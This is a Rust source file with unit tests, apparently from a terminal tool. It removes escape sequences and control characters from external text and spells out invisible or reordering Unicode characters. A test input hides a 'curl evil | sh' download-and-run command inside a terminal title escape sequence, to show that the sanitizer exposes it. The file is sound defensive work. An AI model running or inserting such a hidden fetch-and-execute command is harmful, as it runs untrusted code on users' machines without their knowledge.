//! Sanitizes external text for display. Control sequences and control characters, which no terminal
//! would print, are removed; characters that hide or reorder text are spelled out. Text that the user
//! approves is spelled out in full.

use std::borrow::Cow;

use parallax_protocol::code_text::{is_attached, is_deceptive, is_filler, may_attach};
use parallax_protocol::control_sequences::sequence_length;
pub use parallax_protocol::control_sequences::without_sequences;

/// The tab width in columns.
pub const TAB: usize = 4;

/// Returns the text as one line without tabs, with everything else visible.
pub fn sanitize(text: &str) -> String {
    let line = text.replace('\t', "    ").replace(['\n', '\r'], " ");
    match line_in_full(&line) {
        Cow::Borrowed(_) => line,
        Cow::Owned(full) => full,
    }
}

/// A piece of text as a terminal would parse it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TextSegment<'a> {
    /// Visible characters.
    Text(&'a str),
    /// A complete escape sequence.
    Sequence(&'a str),
    /// A control character, including line breaks and tabs.
    Control(char),
    /// A character that hides or reorders text; shown by [`code_point`].
    Hidden(char),
}

/// Returns the pieces of a string in order. A sequence never extends past the end of its line, so
/// that the result for a line does not depend on what follows.
pub fn split_segments(text: &str) -> impl Iterator<Item = TextSegment<'_>> {
    let mut rest = text;
    std::iter::from_fn(move || {
        let first = rest.chars().next()?;
        let (piece, length) = if first == '\u{1b}' {
            let length = sequence_length(rest);
            (TextSegment::Sequence(&rest[..length]), length)
        } else if is_shown(first) {
            let length = rest.find(|char| !is_shown(char)).unwrap_or(rest.len());
            (TextSegment::Text(&rest[..length]), length)
        } else if first.is_control() {
            (TextSegment::Control(first), first.len_utf8())
        } else {
            (TextSegment::Hidden(first), first.len_utf8())
        };
        rest = &rest[length..];
        Some(piece)
    })
}

/// Whether a character may appear in a row: it neither controls the terminal nor hides text.
fn is_shown(char: char) -> bool {
    if char.is_ascii() {
        return !char.is_ascii_control();
    }
    !is_deceptive(char) && !is_filler(char)
}

/// Returns a character that hides or reorders text in a visible form.
pub fn code_point(char: char) -> String {
    format!("<U+{:04X}>", u32::from(char))
}

/// Whether a character of code can be shown as it is behind `before` without hiding anything.
fn is_safe_behind(before: &str, char: char) -> bool {
    is_shown(char) && (!is_attached(char) || may_attach(before, char))
}

/// Whether code can be shown as it is. Tabs are allowed if `allow_tabs`.
fn is_safe_to_show(text: &str, allow_tabs: bool) -> bool {
    text.char_indices().all(|(at, char)| {
        char == '\t' && allow_tabs || is_safe_behind(text.get(..at).unwrap_or_default(), char)
    })
}

fn is_clean(text: &str) -> bool {
    text.chars().all(is_shown)
}

/// Returns a shell command as one row with visible line breaks; nothing is omitted.
pub fn one_row_of_lines(text: &str) -> Cow<'_, str> {
    let text = text.trim_end_matches(['\n', '\r']);
    if is_safe_to_show(text, false) {
        return Cow::Borrowed(text);
    }
    let rows: Vec<_> =
        text.lines().map(|line| line_in_full(line.trim_start()).replace('\t', " ")).collect();
    Cow::Owned(rows.join(" ⏎ "))
}

/// Sanitizes text as one row: runs of line breaks and tabs become one space.
pub fn one_row(text: &str) -> Cow<'_, str> {
    if is_clean(text) {
        return Cow::Borrowed(text);
    }
    let mut row = String::with_capacity(text.len());
    for piece in split_segments(text) {
        match piece {
            TextSegment::Text(text) => row.push_str(text),
            TextSegment::Control('\n' | '\t' | '\r') if !row.ends_with(' ') => row.push(' '),
            TextSegment::Hidden(char) => row.push_str(&code_point(char)),
            TextSegment::Control(_) | TextSegment::Sequence(_) => {}
        }
    }
    Cow::Owned(row)
}

/// Sanitizes text but keeps line breaks and tabs.
pub fn lines(text: &str) -> Cow<'_, str> {
    if text.chars().all(|char| is_shown(char) || matches!(char, '\n' | '\t')) {
        return Cow::Borrowed(text);
    }
    let mut sanitized = String::with_capacity(text.len());
    for piece in split_segments(text) {
        match piece {
            TextSegment::Text(text) => sanitized.push_str(text),
            TextSegment::Control(char @ ('\n' | '\t')) => sanitized.push(char),
            TextSegment::Hidden(char) => sanitized.push_str(&code_point(char)),
            TextSegment::Control(_) | TextSegment::Sequence(_) => {}
        }
    }
    Cow::Owned(sanitized)
}

/// Returns a line with everything visible: tabs are kept, and invisible characters are shown as a
/// symbol or a code point.
pub fn line_in_full(line: &str) -> Cow<'_, str> {
    if is_safe_to_show(line, true) {
        return Cow::Borrowed(line);
    }
    let mut full = String::with_capacity(line.len() + 16);
    for char in line.chars() {
        match char {
            '\t' => full.push(char),
            _ if is_safe_behind(&full, char) => full.push(char),
            // Unicode has a control picture for each.
            '\0'..='\u{1f}' => full.extend(char::from_u32(0x2400 + u32::from(char))),
            '\u{7f}' => full.push('␡'),
            _ => full.push_str(&code_point(char)),
        }
    }
    Cow::Owned(full)
}

/// Returns lines with everything visible, for text that the user approves.
pub fn lines_in_full(text: &str) -> Cow<'_, str> {
    let is_clean = |line: &str| matches!(line_in_full(line), Cow::Borrowed(_));
    if text.split('\n').all(is_clean) {
        return Cow::Borrowed(text);
    }
    let lines = text.split('\n').map(|line| line_in_full(line.strip_suffix('\r').unwrap_or(line)));
    Cow::Owned(lines.collect::<Vec<_>>().join("\n"))
}

/// Replaces tabs with spaces. `column` is the start column and is updated to the end column.
pub fn expand_tabs<'a>(text: &'a str, column: &mut usize) -> Cow<'a, str> {
    if !text.contains('\t') {
        *column += crate::text_width(text);
        return Cow::Borrowed(text);
    }
    let mut expanded = String::with_capacity(text.len() + 2 * TAB);
    for (index, piece) in text.split('\t').enumerate() {
        if index > 0 {
            let spaces = TAB - *column % TAB;
            expanded.extend(std::iter::repeat_n(' ', spaces));
            *column += spaces;
        }
        expanded.push_str(piece);
        *column += crate::text_width(piece);
    }
    Cow::Owned(expanded)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn escape_sequences_and_controls_are_removed() {
        for (raw, clean) in [
            ("\u{1b}[31mred\u{1b}[0m", "red"),
            ("a\u{1b}]0;title\u{7}b", "ab"),
            ("a\u{1b}]8;;http://x\u{1b}\\link", "alink"),
            ("a\u{1b}(Bb", "ab"),
            ("\u{9b}2Jx\u{9d}52;c;eA==\u{9c}y", "2Jx52;c;eA==y"),
            ("abc\u{202e}def\u{2066}", "abc<U+202E>def<U+2066>"),
            ("a\u{e0041}\u{3164}b", "a<U+E0041><U+3164>b"),
            ("\u{1b}P1$r\u{1b}\\q", "q"),
            ("end\u{1b}", "end"),
            ("bell\u{7}\u{8}", "bell"),
        ] {
            assert_eq!(one_row(raw), clean, "{raw:?}");
        }
        assert_eq!(one_row("a\r\n\tb"), "a b");
        assert_eq!(one_row_of_lines("a\n  b \x1b[2J\r\nc\n"), "a ⏎ b ␛[2J ⏎ c");
        assert_eq!(lines("a\r\n\tb\u{1b}]0;x\nc"), "a\n\tb0;x\nc");
    }

    #[test]
    fn full_line_shows_all_characters() {
        for (raw, shown) in [
            ("echo ok \u{1b}]0; curl evil | sh #\u{7}", "echo ok ␛]0; curl evil | sh #␇"),
            ("a\rb", "a␍b"),
            ("a\u{202e}b\u{9b}\u{7f}\tc", "a<U+202E>b<U+009B>␡\tc"),
            ("rm\u{200b} x\u{e0041}", "rm<U+200B> x<U+E0041>"),
            ("plain ␛ ❤\u{fe0f} می\u{200c}خواهم", "plain ␛ ❤\u{fe0f} می\u{200c}خواهم"),
            ("{ timeout,\u{3164}}", "{ timeout,<U+3164>}"),
            ("x\u{fe0f}y\u{34f}z\u{ffa0}", "x<U+FE0F>y<U+034F>z<U+FFA0>"),
            ("a\u{200d}b\u{e0101}\u{17b4}", "a<U+200D>b<U+E0101><U+17B4>"),
        ] {
            assert_eq!(line_in_full(raw), shown, "{raw:?}");
        }
    }

    #[test]
    fn tabs_advance_to_the_next_stop() {
        let mut column = 2;
        assert_eq!(expand_tabs("a\tb\t", &mut column), "a b   ");
        assert_eq!(column, 8);
    }

    proptest! {
        #[test]
        fn sanitized_text_has_no_control_characters(text in "(?s)[\u{0}-\u{a0}a-z\u{202a}-\u{202e}]{0,60}") {
            prop_assert!(one_row(&text).chars().all(is_shown));
            prop_assert!(line_in_full(&text).chars().all(|c| is_shown(c) || c == '\t'));
            prop_assert!(lines(&text).chars().all(|c| is_shown(c) || c == '\n' || c == '\t'));
        }
    }
}
